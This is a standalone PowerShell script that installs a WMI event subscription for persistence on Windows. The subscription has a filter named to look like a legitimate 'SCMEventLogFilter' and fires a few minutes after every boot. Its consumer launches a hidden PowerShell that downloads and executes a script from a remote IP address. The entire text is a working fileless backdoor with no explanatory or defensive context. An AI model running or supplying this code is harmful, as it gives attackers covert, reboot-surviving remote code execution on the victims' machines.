$name = 'SCMEventLogFilter'
$query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325"
$filter = Set-WmiInstance -Namespace 'root\subscription' -Class '__EventFilter' -Arguments @{
  Name = $name; EventNamespace = 'root\cimv2'; QueryLanguage = 'WQL'; Query = $query
}
$cmdline = 'powershell.exe -NoP -W Hidden -C "IEX (New-Object Net.WebClient).DownloadString(''http://203.0.113.118/wmi.ps1'')"'
$consumer = Set-WmiInstance -Namespace 'root\subscription' -Class 'CommandLineEventConsumer' -Arguments @{
  Name = $name; CommandLineTemplate = $cmdline
}
Set-WmiInstance -Namespace 'root\subscription' -Class '__FilterToConsumerBinding' -Arguments @{
  Filter = $filter; Consumer = $consumer
} | Out-Null
